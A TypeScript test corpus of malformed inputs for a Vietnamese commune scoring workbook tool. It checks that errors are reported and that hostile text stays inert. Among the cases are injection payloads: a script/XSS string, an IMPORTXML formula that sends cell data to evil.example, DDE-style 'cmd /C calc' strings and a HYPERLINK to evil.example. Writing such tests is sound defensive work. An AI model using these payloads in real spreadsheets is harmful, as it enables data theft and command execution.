/**
 * The corpus of bad input, as data. Each case starts from the SAMPLE workbook (Cao An 2023, made-up
 * figures) — after setup on the Apps Script fakes, or as `template --sample` writes it for the .xlsx
 * path — applies its edits (edits.ts), and states what the user must get:
 *  - the exact Vietnamese message, its severity and the cell it names (placed with the layout);
 *  - or that the input is accepted (no problem at the named cells);
 *  - how the scores differ from the sample's (computed by the runner from the sample's own result);
 *  - or the whole-file refusal (CLI exit code 2 and one line; Sheets: {ok:false} with the message).
 * The runner (runner.ts) adds the checks every case gets: no input cell written, no exception.
 */
import { DEFAULT_CATALOGUE } from '../../src/core/catalog/defaultCatalogue';
import { cellText, MAX_TEXT_LENGTH } from '../../src/core/cells';
import { AREA_COLUMNS, col, columnLetter, letterOf, TAB_NAMES } from '../../src/core/layout';
import { SAMPLE_ENTRIES } from '../../src/core/sample/caoAn2023';
import { RESERVED_TAB_TEXT, KIND_LABELS, localMsg, msg } from '../../src/core/text';
import { areaSpec, At, Edit, sampleTabName } from './edits';

export type PathName = 'sheets' | 'xlsx';

/** Files that are not a usable workbook (offline path only). */
export type FileKind = 'text' | 'empty' | 'ole' | 'docx' | 'truncated' | 'noAreaTab' | 'folder';

/** How the scores differ from the sample's. Points and maxima in points (decimals). */
export interface ScoreEffect {
  /** Now score 0 (still applicable). */
  lost?: string[];
  /** Now not applicable (no points, out of the maximum). */
  na?: string[];
  /** Gone from the catalogue read from the rows (no points, out of the maximum). */
  dropped?: string[];
  /** Tabs no longer read: the area counts 0 of its stated maximum. */
  areasGone?: string[];
  /** Now score this many points. */
  points?: Record<string, number>;
  /** Now have this maximum (applicable). */
  max?: Record<string, number>;
  /** New criteria scored: their points and maximum join their area. */
  added?: { code: string; points: number; max: number }[];
}

export interface Expectation {
  /** The message the user must see; absent when the case expects the input to be accepted. */
  problem?: { severity: 'error' | 'warning'; message: string; at: At };
  /** Cells where no problem may be reported ('workbook': no workbook-wide problem). */
  quiet?: At[];
  /** How the scores differ from the sample ({} = exactly the sample's scores). */
  score?: ScoreEffect;
  /** The whole workbook is refused with this message (file problems: the file path is passed). */
  refusal?: string | ((file: string) => string);
}

export interface BadCase {
  name: string;
  group: string;
  paths: PathName[];
  edits?: Edit[];
  file?: FileKind;
  expect: Expectation;
  /** Replaces `expect` on one path (the shells differ on purpose, e.g. reserved tab names). */
  sheets?: Expectation;
  xlsx?: Expectation;
  /** Also build the year-end report: these texts must arrive there as plain, inert text. */
  reportCarries?: string[];
}

// ---- helpers over the sample ------------------------------------------------------------

const BOTH: PathName[] = ['sheets', 'xlsx'];
const header = (key: (typeof AREA_COLUMNS)[number]['key']) => AREA_COLUMNS[col(key)].header;
const sample = (code: string, key: 'a' | 'b' | 'value') => SAMPLE_ENTRIES[code][key] as number;
const criterion = (code: string) => DEFAULT_CATALOGUE.areas.flatMap((a) => a.criteria).find((c) => c.code === code)!;
/** The options of a status criterion, in the order of its Cách chấm. */
const labels = (code: string) =>
  criterion(code)
    .rule.split(';')
    .map((p) => p.split(':')[0].trim());
const set = (
  code: string,
  key: Edit & { op: 'set' } extends { key: infer K } ? K : never,
  value: (Edit & { op: 'set' })['value'],
): Edit => ({ op: 'set', code, key, value });
const at = (code: string, key: Parameters<typeof set>[1], extra: { in?: string; nth?: number } = {}): At => ({
  code,
  key,
  ...extra,
});
const error = (message: string, where: At) => ({ severity: 'error' as const, message, at: where });
const warning = (message: string, where: At) => ({ severity: 'warning' as const, message, at: where });
const lost = (...codes: string[]): ScoreEffect => ({ lost: codes });
const SAME: ScoreEffect = {};

const A_DATE = new Date(2023, 0, 15, 12);
const HTML = '<script>window.__xss=1</script><img src=x onerror="alert(1)"> & <b>đậm</b>';
const IMPORTXML = '=IMPORTXML("http://evil.example/?q="&A1,"//a")';
const CMD = '+cmd|" /C calc"!A0';
const AT_SUM = '@SUM(1+1)*cmd|" /C calc"!A0';
const HYPERLINK = '=HYPERLINK("http://evil.example","Bấm vào đây")';
const LONG_NOTE = 'Hồ sơ trễ hạn do phải xác minh nguồn gốc đất, đã có văn bản xin lỗi. '.repeat(800).slice(0, 50_000);

/** A catalogue row edited by the office into an invalid rule. */
const rule = (code: string, text: string) => set(code, 'rule', text);

// ---- the corpus -----------------------------------------------------------------------------

export const CASES: BadCase[] = [
  // ---- numbers --------------------------------------------------------------------------------
  {
    name: 'text in a ratio cell',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.5', 'a', 'mười')],
    expect: { problem: error(msg.notANumber('mười'), at('3.5', 'a')), score: lost('3.5') },
  },
  {
    name: 'text in a count cell',
    group: 'numbers',
    paths: BOTH,
    edits: [set('5.2', 'value', 'không')],
    expect: { problem: error(msg.notANumber('không'), at('5.2', 'value')), score: lost('5.2') },
  },
  {
    name: 'negative a',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.5', 'a', -3)],
    expect: { problem: error(msg.negative(-3), at('3.5', 'a')), score: lost('3.5') },
  },
  {
    name: 'absurd count (1e308)',
    group: 'numbers',
    paths: BOTH,
    edits: [set('5.3', 'value', 1e308)],
    expect: { problem: error(msg.countTooLarge(1e9), at('5.3', 'value')), score: lost('5.3') },
  },
  {
    name: 'checklist “Không”: nothing done',
    group: 'numbers',
    paths: BOTH,
    edits: [set('6.2', 'value', 'Không')],
    expect: { quiet: [at('6.2', 'value')], score: lost('6.2') },
  },
  {
    name: 'negative count',
    group: 'numbers',
    paths: BOTH,
    edits: [set('5.3', 'value', -1)],
    expect: { problem: error(msg.negative(-1), at('5.3', 'value')), score: lost('5.3') },
  },
  {
    name: 'decimal where a count is expected',
    group: 'numbers',
    paths: BOTH,
    edits: [set('5.2', 'value', 0.5)],
    expect: { problem: error(msg.notAWholeNumber(0.5), at('5.2', 'value')), score: lost('5.2') },
  },
  {
    name: 'decimal denominator',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.5', 'b', 1242.5)],
    expect: { problem: error(msg.notAWholeNumber(1242.5), at('3.5', 'b')), score: lost('3.5') },
  },
  {
    name: 'a > b',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.5', 'a', 2000)],
    expect: { problem: error(msg.aGreaterThanB(2000, sample('3.5', 'b')), at('3.5', 'a')), score: lost('3.5') },
  },
  {
    name: 'b = 0 where data is required',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.5', 'a', 0), set('3.5', 'b', 0)],
    expect: { problem: error(msg.zeroDenominator(false), at('3.5', 'b')), score: lost('3.5') },
  },
  {
    name: 'b = 0 where “không phát sinh” is allowed',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.6', 'a', 0), set('3.6', 'b', 0)],
    expect: { problem: error(msg.zeroDenominator(true), at('3.6', 'b')), score: lost('3.6') },
  },
  {
    name: 'over 100% on a proportional rule (a > b)',
    group: 'numbers',
    paths: BOTH,
    edits: [set('7.6', 'a', 600)],
    expect: { problem: error(msg.aGreaterThanB(600, sample('7.6', 'b')), at('7.6', 'a')), score: lost('7.6') },
  },
  {
    name: 'hand-typed points above the maximum',
    group: 'numbers',
    paths: BOTH,
    edits: [
      set('1.6', 'kind', KIND_LABELS.manual),
      set('1.6', 'rule', 'Nhập điểm từ 0 đến tối đa'),
      set('1.6', 'value', 3),
    ],
    expect: {
      problem: error(msg.pointsAboveMax(3, criterion('1.6').maxPoints), at('1.6', 'value')),
      score: lost('1.6'),
    },
  },
  {
    name: 'hand-typed points with a decimal comma, as text',
    group: 'numbers',
    paths: BOTH,
    edits: [
      set('1.6', 'kind', KIND_LABELS.manual),
      set('1.6', 'rule', 'Nhập điểm từ 0 đến tối đa'),
      set('1.6', 'value', '1,5'),
    ],
    expect: {
      problem: warning(msg.textNumberAccepted('1,5', 1.5), at('1.6', 'value')),
      score: { points: { '1.6': 1.5 } },
    },
  },
  {
    name: 'thousands dot as text (accepted)',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.5', 'a', '1.236')],
    expect: { problem: warning(msg.textNumberAccepted('1.236', 1236), at('3.5', 'a')), score: SAME },
  },
  {
    name: 'thousands space as text (accepted)',
    group: 'numbers',
    paths: BOTH,
    edits: [set('7.2', 'b', '2 500')],
    expect: { problem: warning(msg.textNumberAccepted('2 500', 2500), at('7.2', 'b')), score: SAME },
  },
  {
    name: 'decimal point, ambiguous',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.5', 'a', '1236.0')],
    expect: { problem: error(msg.ambiguousDecimal('1236.0'), at('3.5', 'a')), score: lost('3.5') },
  },
  {
    name: 'English thousands comma read as a decimal comma',
    group: 'numbers',
    paths: BOTH,
    edits: [set('7.2', 'a', '2,310')],
    expect: { problem: error(msg.notAWholeNumber(2.31), at('7.2', 'a')), score: lost('7.2') },
  },
  {
    name: 'whole count with a decimal comma (accepted)',
    group: 'numbers',
    paths: BOTH,
    edits: [set('1.6', 'value', '1,0')],
    expect: { problem: warning(msg.textNumberAccepted('1,0', 1), at('1.6', 'value')), score: SAME },
  },
  {
    name: 'decimal comma in a count',
    group: 'numbers',
    paths: BOTH,
    edits: [set('5.3', 'value', '0,5')],
    expect: { problem: error(msg.notAWholeNumber(0.5), at('5.3', 'value')), score: lost('5.3') },
  },
  {
    name: 'checkbox (TRUE) in a number cell',
    group: 'numbers',
    paths: BOTH,
    edits: [set('3.5', 'a', true)],
    expect: { problem: error(msg.booleanInNumberCell(), at('3.5', 'a')), score: lost('3.5') },
  },
  {
    name: 'number in a yes/no cell',
    group: 'numbers',
    paths: BOTH,
    edits: [set('4.1', 'value', 1)],
    expect: { problem: error(msg.notYesNo('1'), at('4.1', 'value')), score: lost('4.1') },
  },
  {
    name: 'checklist item out of range',
    group: 'numbers',
    paths: BOTH,
    edits: [set('1.4.2', 'value', '1, 2, 9')],
    expect: {
      problem: error(msg.checklistBadItem('9', labels('1.4.2').length), at('1.4.2', 'value')),
      score: lost('1.4.2'),
    },
  },

  // ---- formula errors -------------------------------------------------------------------------
  {
    name: '#DIV/0! in a ratio cell',
    group: 'formula errors',
    paths: BOTH,
    edits: [set('3.5', 'a', { formula: '1/0', result: '#DIV/0!' })],
    expect: { problem: error(msg.formulaError('#DIV/0!'), at('3.5', 'a')), score: lost('3.5') },
  },
  {
    name: '#REF! in a denominator',
    group: 'formula errors',
    paths: BOTH,
    edits: [set('7.2', 'b', { formula: 'SUM(#REF!)', result: '#REF!' })],
    expect: { problem: error(msg.formulaError('#REF!'), at('7.2', 'b')), score: lost('7.2') },
  },
  {
    name: '#N/A in a status cell',
    group: 'formula errors',
    paths: BOTH,
    edits: [set('7.7', 'value', { formula: 'VLOOKUP(1,Z1:Z2,2,FALSE)', result: '#N/A' })],
    expect: { problem: error(msg.formulaError('#N/A'), at('7.7', 'value')), score: lost('7.7') },
  },
  {
    name: '#VALUE! in a yes/no cell',
    group: 'formula errors',
    paths: BOTH,
    edits: [set('7.4', 'value', { formula: '1+"x"', result: '#VALUE!' })],
    expect: { problem: error(msg.formulaError('#VALUE!'), at('7.4', 'value')), score: lost('7.4') },
  },
  {
    name: '#NAME? in a checklist cell',
    group: 'formula errors',
    paths: BOTH,
    edits: [set('6.2', 'value', { formula: 'TICK()', result: '#NAME?' })],
    expect: { problem: error(msg.formulaError('#NAME?'), at('6.2', 'value')), score: lost('6.2') },
  },
  // Sheets always computes its formulas; a file saved by a tool that does not is an .xlsx matter.
  {
    name: 'formula saved without a result',
    group: 'formula errors',
    paths: ['xlsx'],
    edits: [set('3.5', 'a', { formula: 'SUM(Z1:Z2)' })],
    expect: { problem: error(msg.missingNoNa(header('a')), at('3.5', 'a')), score: lost('3.5') },
  },

  // ---- dates ----------------------------------------------------------------------------------
  {
    name: 'date as text in a count cell',
    group: 'dates',
    paths: BOTH,
    edits: [set('5.2', 'value', '15/01/2023')],
    expect: { problem: error(msg.notANumber('15/01/2023'), at('5.2', 'value')), score: lost('5.2') },
  },
  {
    name: 'date in a ratio cell',
    group: 'dates',
    paths: BOTH,
    edits: [set('3.5', 'a', A_DATE)],
    expect: { problem: error(msg.dateInNumberCell(), at('3.5', 'a')), score: lost('3.5') },
  },
  {
    name: 'date in a status cell',
    group: 'dates',
    paths: BOTH,
    edits: [set('1.1.1', 'value', A_DATE)],
    expect: {
      problem: error(msg.notInList(cellText(A_DATE), labels('1.1.1')), at('1.1.1', 'value')),
      score: lost('1.1.1'),
    },
  },

  // ---- empty required cells ---------------------------------------------------------------
  {
    name: 'empty a',
    group: 'required',
    paths: BOTH,
    edits: [set('3.5', 'a', '')],
    expect: { problem: error(msg.missingNoNa(header('a')), at('3.5', 'a')), score: lost('3.5') },
  },
  {
    name: 'empty a and b where “không phát sinh” is allowed',
    group: 'required',
    paths: BOTH,
    edits: [set('3.6', 'a', ''), set('3.6', 'b', '')],
    expect: { problem: error(msg.missing(`${header('a')} và ${header('b')}`), at('3.6', 'a')), score: lost('3.6') },
  },
  {
    name: 'empty status',
    group: 'required',
    paths: BOTH,
    edits: [set('1.1.1', 'value', '')],
    expect: { problem: error(msg.missingNoNa(header('value')), at('1.1.1', 'value')), score: lost('1.1.1') },
  },
  {
    name: 'only spaces in a yes/no cell',
    group: 'required',
    paths: BOTH,
    edits: [set('4.1', 'value', '   ')],
    expect: { problem: error(msg.missingNoNa(header('value')), at('4.1', 'value')), score: lost('4.1') },
  },

  // ---- không phát sinh ------------------------------------------------------------------------
  {
    name: '“không phát sinh” where not allowed',
    group: 'không phát sinh',
    paths: BOTH,
    edits: [set('1.5', 'na', 'x')],
    expect: { problem: error(msg.naNotAllowed(), at('1.5', 'na')), score: lost('1.5') },
  },
  {
    name: '“không phát sinh” with figures entered',
    group: 'không phát sinh',
    paths: BOTH,
    edits: [set('3.6', 'na', 'x')],
    expect: { problem: warning(msg.naWithData(), at('3.6', 'a')), score: { na: ['3.6'] } },
  },
  {
    name: '“không phát sinh” mark unreadable',
    group: 'không phát sinh',
    paths: BOTH,
    edits: [set('3.6', 'na', 'không có')],
    expect: { problem: error(msg.naValueInvalid('không có'), at('3.6', 'na')), score: lost('3.6') },
  },
  {
    name: '“không phát sinh” as capital X (accepted)',
    group: 'không phát sinh',
    paths: BOTH,
    edits: [set('1.7', 'na', 'X'), set('1.7', 'a', ''), set('1.7', 'b', '')],
    expect: { quiet: [at('1.7', 'na'), at('1.7', 'a')], score: { na: ['1.7'] } },
  },

  // ---- statuses: diacritics and case ---------------------------------------------------------
  {
    name: 'status without diacritics',
    group: 'statuses',
    paths: BOTH,
    edits: [set('1.1.1', 'value', 'kip thoi')],
    expect: {
      problem: error(msg.notInList('kip thoi', labels('1.1.1'), 'Kịp thời'), at('1.1.1', 'value')),
      score: lost('1.1.1'),
    },
  },
  {
    name: 'status in capitals (accepted)',
    group: 'statuses',
    paths: BOTH,
    edits: [set('1.1.1', 'value', 'KỊP THỜI')],
    expect: { quiet: [at('1.1.1', 'value')], score: SAME },
  },
  {
    name: 'status in decomposed Unicode (accepted)',
    group: 'statuses',
    paths: BOTH,
    edits: [set('4.2', 'value', 'Hoàn thành'.normalize('NFD'))],
    expect: { quiet: [at('4.2', 'value')], score: SAME },
  },
  {
    name: 'status with surrounding spaces (accepted)',
    group: 'statuses',
    paths: BOTH,
    edits: [set('7.7', 'value', '  Đúng quy định  ')],
    expect: { quiet: [at('7.7', 'value')], score: SAME },
  },
  {
    name: 'status not in the list',
    group: 'statuses',
    paths: BOTH,
    edits: [set('4.4', 'value', 'Tốt lắm')],
    expect: { problem: error(msg.notInList('Tốt lắm', labels('4.4')), at('4.4', 'value')), score: lost('4.4') },
  },
  {
    name: 'yes/no without diacritics',
    group: 'statuses',
    paths: BOTH,
    edits: [set('1.5', 'value', 'co')],
    expect: { problem: error(msg.notYesNo('co', 'Có'), at('1.5', 'value')), score: lost('1.5') },
  },
  {
    name: 'yes/no in capitals (accepted)',
    group: 'statuses',
    paths: BOTH,
    edits: [set('1.5', 'value', 'CÓ')],
    expect: { quiet: [at('1.5', 'value')], score: SAME },
  },

  // ---- text cells -----------------------------------------------------------------------------
  {
    name: 'a 50,000-character explanation',
    group: 'text',
    paths: BOTH,
    edits: [set('3.5', 'explanation', LONG_NOTE)],
    expect: {
      problem: warning(msg.textTooLong(LONG_NOTE.length, MAX_TEXT_LENGTH), at('3.5', 'explanation')),
      score: SAME,
    },
  },
  {
    name: 'HTML/script in every text cell',
    group: 'text',
    paths: BOTH,
    edits: [
      {
        op: 'fillText',
        value: HTML,
        keys: ['title', 'evidence', 'explanation', 'owner', 'appraisalNote'],
        info: ['commune', 'chairman', 'proposals'],
        assignmentNames: true,
      },
    ],
    expect: {
      quiet: [at('3.5', 'title'), at('3.5', 'evidence'), at('3.5', 'explanation'), at('3.5', 'owner')],
      score: SAME,
    },
    reportCarries: [HTML],
  },
  {
    name: 'formula-like evidence (=IMPORTXML)',
    group: 'text',
    paths: BOTH,
    edits: [set('3.5', 'evidence', IMPORTXML)],
    expect: { problem: warning(msg.formulaLikeText(IMPORTXML), at('3.5', 'evidence')), score: SAME },
    reportCarries: [IMPORTXML],
  },
  {
    name: 'formula-like owner (+cmd)',
    group: 'text',
    paths: BOTH,
    edits: [set('3.5', 'owner', CMD)],
    expect: { problem: warning(msg.formulaLikeText(CMD), at('3.5', 'owner')), score: SAME },
  },
  {
    name: 'formula-like explanation (@SUM)',
    group: 'text',
    paths: BOTH,
    edits: [set('3.5', 'explanation', AT_SUM)],
    expect: { problem: warning(msg.formulaLikeText(AT_SUM), at('3.5', 'explanation')), score: SAME },
    reportCarries: [AT_SUM],
  },
  {
    // Titles reach Tổng hợp: Sheets would run them as formulas there (fixed: written as literal text).
    name: 'formula-like titles (=HYPERLINK) reaching Tổng hợp',
    group: 'text',
    paths: BOTH,
    edits: [{ op: 'fillText', value: HYPERLINK, keys: ['title'], info: [], assignmentNames: false }],
    expect: { quiet: [at('3.5', 'title'), { area: '3', row: 'areaRow', key: 'title' }], score: SAME },
    reportCarries: [HYPERLINK],
  },

  // ---- structure --------------------------------------------------------------------------------
  {
    name: 'merged input cells across a row',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'merge', code: '3.5', from: 'a', to: 'b', rows: 1 }],
    expect: { problem: error(msg.mergedInput(), at('3.5', 'a')), score: lost('3.5') },
  },
  // The master cell keeps 3.5's value; the row below lost its a.
  {
    name: 'merged input cells down two rows',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'merge', code: '3.5', from: 'a', to: 'a', rows: 2 }],
    expect: { problem: error(msg.mergedInput(), at('3.5', 'a')), score: lost('3.5', '3.6') },
  },
  {
    name: 'area tab deleted',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'deleteTab', area: '4' }],
    expect: {
      problem: error(msg.areaTabMissingCounted('4', areaSpec('4').title, String(areaSpec('4').maxPoints)), 'workbook'),
      score: { areasGone: ['4'] },
    },
  },
  {
    name: 'area tab renamed (still scored)',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'renameTab', area: '4', name: 'Bảng của chị Lan' }],
    expect: { quiet: ['workbook', { area: '4', row: 'header', key: 'code' }], score: SAME },
  },
  {
    // Offline, the scored copy gets "Tổng hợp (2)"; in Sheets Tính điểm refuses before writing anything.
    name: 'area tab renamed “Tổng hợp”',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'renameTab', area: '4', name: TAB_NAMES.summary }],
    expect: {},
    xlsx: { quiet: ['workbook'], score: SAME },
    sheets: { refusal: RESERVED_TAB_TEXT.reservedTabTaken(TAB_NAMES.summary) },
  },
  {
    name: 'area tab renamed “Nhật ký”',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'renameTab', area: '4', name: TAB_NAMES.log }],
    expect: {},
    xlsx: { quiet: ['workbook'], score: SAME },
    sheets: { refusal: RESERVED_TAB_TEXT.reservedTabTaken(TAB_NAMES.log) },
  },
  {
    name: 'header row moved down two rows',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'insertRowsAtTop', area: '4', count: 2 }],
    expect: {
      problem: warning(msg.headerMoved(sampleTabName('4'), 3, 5), { area: '4', row: 'header', key: 'code' }),
      score: SAME,
    },
  },
  {
    name: 'header row deleted',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'deleteRow', area: '4', row: 'header' }],
    expect: {
      problem: error(msg.areaTabMissingCounted('4', areaSpec('4').title, String(areaSpec('4').maxPoints)), 'workbook'),
      score: { areasGone: ['4'] },
    },
  },
  {
    name: 'header cell renamed',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'setHeader', area: '4', key: 'a', value: 'Số a' }],
    expect: {
      problem: error(msg.headerColumnsChanged(sampleTabName('4'), letterOf('a'), header('a'), 'Số a'), {
        area: '4',
        row: 'header',
        key: 'a',
      }),
      score: { areasGone: ['4'] },
    },
  },
  {
    name: 'column inserted before Mã',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'insertColumnAtStart', area: '4' }],
    expect: {
      problem: error(msg.headerColumnsChanged(sampleTabName('4'), columnLetter(1), header('code'), ''), {
        area: '4',
        row: 'header',
        key: 'code',
      }),
      score: { areasGone: ['4'] },
    },
  },
  {
    // The area row's maximum stands: the deleted criterion counts 0 of its share, so the index falls.
    name: 'criterion row deleted',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'deleteRow', area: '3', row: { code: '3.5' } }],
    expect: {
      problem: error(msg.areaCriteriaMissing('3', 17, 22), { area: '3', row: 'areaRow', key: 'maxPoints' }),
      score: lost('3.5'),
    },
  },
  {
    name: 'area row deleted',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'deleteRow', area: '4', row: 'areaRow' }],
    expect: {
      problem: error(msg.areaRowMissing(sampleTabName('4')), { area: '4', row: 'areaRow', key: 'kind' }),
      score: SAME,
    },
  },
  {
    name: 'criterion code duplicated in its tab',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'copyRow', code: '3.5', toArea: '3' }],
    expect: { problem: error(msg.duplicateCode('3.5'), at('3.5', 'code', { nth: 2 })), score: SAME },
  },
  {
    name: 'criterion code duplicated in another tab',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'copyRow', code: '3.5', toArea: '4' }],
    expect: { problem: error(msg.duplicateCode('3.5'), at('3.5', 'code', { in: '4' })), score: SAME },
  },
  // The catalogue is read from the rows: a code is "not in the catalogue" when it cannot join the tree.
  {
    name: 'orphan code (3.12.1 without 3.12)',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'copyRow', code: '3.5', toArea: '3', change: { code: '3.12.1' } }],
    expect: { problem: error(msg.orphanCode('3.12.1', '3.12'), at('3.12.1', 'code')), score: SAME },
  },
  {
    name: 'code of another area (4.9 in area 3)',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'copyRow', code: '3.5', toArea: '3', change: { code: '4.9' } }],
    expect: { problem: error(msg.wrongArea('4.9', '3'), at('4.9', 'code', { in: '3' })), score: SAME },
  },
  {
    name: 'code not in dotted form',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'copyRow', code: '3.5', toArea: '3', change: { code: '3.x' } }],
    expect: { problem: error(msg.badCode('3.x'), at('3.x', 'code', { in: '3' })), score: SAME },
  },
  {
    // A new code typed with figures but no catalogue cells is not a criterion: reported, not scored.
    name: 'new code 3.12 without catalogue cells',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'appendRows', area: '3', rows: [{ code: '3.12', a: 3, b: 4 }] }],
    expect: { problem: error(msg.unknownKind('3.12', ''), at('3.12', 'kind')), score: SAME },
  },
  {
    name: 'new criterion beyond the area maximum',
    group: 'structure',
    paths: BOTH,
    edits: [
      {
        op: 'copyRow',
        code: '3.6',
        toArea: '3',
        change: { code: '3.12', title: 'Tiêu chí thêm', maxPoints: 1, rule: '= 100%: 1; còn lại: 0', a: 2, b: 2 },
      },
    ],
    expect: {
      problem: error(msg.areaMaxMismatch('3', areaSpec('3').maxPoints + 1, areaSpec('3').maxPoints), {
        area: '3',
        row: 'areaRow',
        key: 'maxPoints',
      }),
      score: { added: [{ code: '3.12', points: 1, max: 1 }] },
    },
  },
  {
    name: 'figures in a row without a code',
    group: 'structure',
    paths: BOTH,
    edits: [{ op: 'appendRows', area: '3', rows: [{ title: 'Hồ sơ đất đai', a: 5, b: 6 }] }],
    expect: { problem: warning(msg.rowWithoutCode(), { area: '3', row: 'firstAdded', key: 'code' }), score: SAME },
  },
  {
    name: 'figures on a group row',
    group: 'structure',
    paths: BOTH,
    edits: [set('3.1', 'a', 5)],
    expect: { problem: warning(msg.groupHasInput(), at('3.1', 'a')), score: SAME },
  },
  {
    name: 'figures in a column the kind does not use',
    group: 'structure',
    paths: BOTH,
    edits: [set('7.4', 'a', 5)],
    expect: { problem: warning(msg.unusedInput(header('a')), at('7.4', 'a')), score: SAME },
  },
  {
    name: 'a workbook of 10,000 rows',
    group: 'structure',
    paths: BOTH,
    edits: [
      { op: 'pasteRows', area: '3', count: 10_000, cells: { title: 'Hồ sơ dán từ phần mềm một cửa', a: 1, b: 1 } },
    ],
    expect: { problem: warning(msg.rowWithoutCode(), { area: '3', row: 'firstAdded', key: 'code' }), score: SAME },
  },

  // ---- the catalogue edited into an invalid state ------------------------------------------
  {
    name: 'overlapping tiers',
    group: 'catalogue',
    paths: BOTH,
    edits: [rule('3.5', '≥ 80%: 5; ≥ 90%: 4; còn lại: 0')],
    expect: { problem: error(msg.ruleTierUnreachable('3.5', '≥ 90%', '≥ 80%'), at('3.5', 'rule')), score: lost('3.5') },
  },
  {
    name: 'tiers out of order',
    group: 'catalogue',
    paths: BOTH,
    edits: [rule('3.9', '≥ 50%: 3; ≥ 10%: 1; ≥ 30%: 2; còn lại: 0')],
    expect: { problem: error(msg.ruleTiersOutOfOrder('3.9'), at('3.9', 'rule')), score: lost('3.9') },
  },
  {
    name: 'unreadable rule',
    group: 'catalogue',
    paths: BOTH,
    edits: [rule('3.5', 'đạt thì 5 điểm')],
    expect: { problem: error(msg.ruleSyntax('3.5', 'đạt thì 5 điểm'), at('3.5', 'rule')), score: lost('3.5') },
  },
  {
    name: 'rule points above the maximum',
    group: 'catalogue',
    paths: BOTH,
    edits: [rule('3.5', '= 100%: 6; còn lại: 0')],
    expect: { problem: error(msg.rulePointsAboveMax('3.5', 6, 5), at('3.5', 'rule')), score: lost('3.5') },
  },
  {
    // The group keeps its stated maximum, so the index is the sample's.
    name: 'children above the parent’s maximum',
    group: 'catalogue',
    paths: BOTH,
    edits: [set('3.1.2', 'maxPoints', 3), rule('3.1.2', '= 100%: 3; ≥ 80%: 1; còn lại: 0')],
    expect: { problem: error(msg.childrenExceedParent('3.1', 4, 3), at('3.1', 'maxPoints')), score: SAME },
  },
  {
    name: 'children below the parent’s maximum',
    group: 'catalogue',
    paths: BOTH,
    edits: [set('1.3.2', 'maxPoints', 0.5), rule('1.3.2', '= 100%: 0,5; còn lại: 0')],
    expect: {
      problem: error(msg.childrenBelowParent('1.3', 1.5, 2), at('1.3', 'maxPoints')),
      score: { points: { '1.3.2': 0.5 } },
    },
  },
  {
    name: 'checklist options above the maximum',
    group: 'catalogue',
    paths: BOTH,
    edits: [
      rule(
        '1.4.2',
        'Đài truyền thanh: 0,5; Trang thông tin điện tử: 0,5; Băng rôn, khẩu hiệu: 0,5; Hội nghị, tờ gấp: 0,5',
      ),
    ],
    expect: {
      problem: error(msg.ruleChecklistAboveMax('1.4.2', 2, 1), at('1.4.2', 'rule')),
      quiet: [at('1.4.2', 'value')],
      score: lost('1.4.2'),
    },
  },
  {
    name: 'unknown kind',
    group: 'catalogue',
    paths: BOTH,
    edits: [set('3.5', 'kind', 'Phần trăm')],
    expect: { problem: error(msg.unknownKind('3.5', 'Phần trăm'), at('3.5', 'kind')), score: lost('3.5') },
  },
  {
    name: 'maximum points as text',
    group: 'catalogue',
    paths: BOTH,
    edits: [set('3.5', 'maxPoints', 'năm')],
    expect: { problem: error(msg.negativeMax('3.5'), at('3.5', 'maxPoints')), score: lost('3.5') },
  },
  {
    name: 'maximum points with 4 decimals',
    group: 'catalogue',
    paths: BOTH,
    edits: [set('7.4', 'maxPoints', 2.0005)],
    expect: { problem: error(msg.tooManyDecimals('7.4'), at('7.4', 'maxPoints')), score: lost('7.4') },
  },
  {
    name: 'criterion title emptied',
    group: 'catalogue',
    paths: BOTH,
    edits: [set('7.4', 'title', '')],
    expect: { problem: error(msg.missingTitle('7.4'), at('7.4', 'title')), score: lost('7.4') },
  },
  {
    name: 'unreadable plan target',
    group: 'catalogue',
    paths: BOTH,
    edits: [set('7.2', 'target', 'nhiều')],
    expect: { problem: warning(msg.targetInvalid('7.2', 'nhiều'), at('7.2', 'target')), score: SAME },
  },
  {
    name: 'ratings out of order',
    group: 'catalogue',
    paths: BOTH,
    edits: [{ op: 'setInfo', key: 'ratings', value: '≥ 90%: Xuất sắc; ≥ 95%: Tốt; còn lại: Kém' }],
    expect: { problem: error(msg.bandsOutOfOrder('Xếp loại'), { info: 'ratings' }), score: SAME },
  },
  {
    name: 'unreadable groups',
    group: 'catalogue',
    paths: BOTH,
    edits: [{ op: 'setInfo', key: 'groups', value: 'trên 90 là giỏi' }],
    expect: { problem: error(msg.bandsSyntax('Phân nhóm', 'trên 90 là giỏi'), { info: 'groups' }), score: SAME },
  },

  // ---- appraisal ------------------------------------------------------------------------------
  {
    name: 'appraisal above the maximum (self score kept)',
    group: 'appraisal',
    paths: BOTH,
    edits: [set('3.5', 'appraisal', 9)],
    expect: { problem: error(msg.appraisalInvalid(msg.pointsAboveMax(9, 5)), at('3.5', 'appraisal')), score: SAME },
  },
  {
    name: 'appraisal as text (self score kept)',
    group: 'appraisal',
    paths: BOTH,
    edits: [set('3.5', 'appraisal', 'năm điểm')],
    expect: { problem: error(msg.appraisalInvalid(msg.notANumber('năm điểm')), at('3.5', 'appraisal')), score: SAME },
  },

  // ---- files (offline only) ----------------------------------------------------------------
  {
